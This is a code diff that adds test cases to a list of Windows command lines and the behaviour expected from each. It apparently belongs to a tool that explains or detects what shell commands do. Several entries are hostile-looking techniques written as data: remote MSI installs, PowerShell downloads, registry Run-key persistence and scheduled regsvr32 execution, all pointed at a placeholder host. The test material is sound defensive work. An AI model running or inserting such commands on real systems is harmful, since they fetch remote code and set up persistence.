@@ -57,6 +57,8 @@ LINES = [
     ("msiexec /q /i http://a.example/x.msi", "downloads http://a.example/x.msi", ""),
     (r"reg add HKCU\Software\X /v Run /d calc", r"writes HKCU\Software\X\Run", ""),
     (r"forfiles /p C:\ /m x /c \"cmd /c calc\"".replace('\\"', '"'), "starts calc", ""),
+    ("$a='http://a.example/';iwr $a -OutFile C:\\x", "downloads http://a.example/ to C:\\x", ""),
+    ('schtasks /create /tn x /tr "regsvr32 -s \\"C:\\a b.dll\\"" /sc once', 'starts regsvr32 -s "C:\\a b.dll"', ""),
     ("conhost --headless cmd /c calc", "starts calc", ""),
     ("cmd /c calc ^& notepad", "starts notepad", ""),
     ("if 1==1 (calc) else (notepad)", "starts notepad", ""),
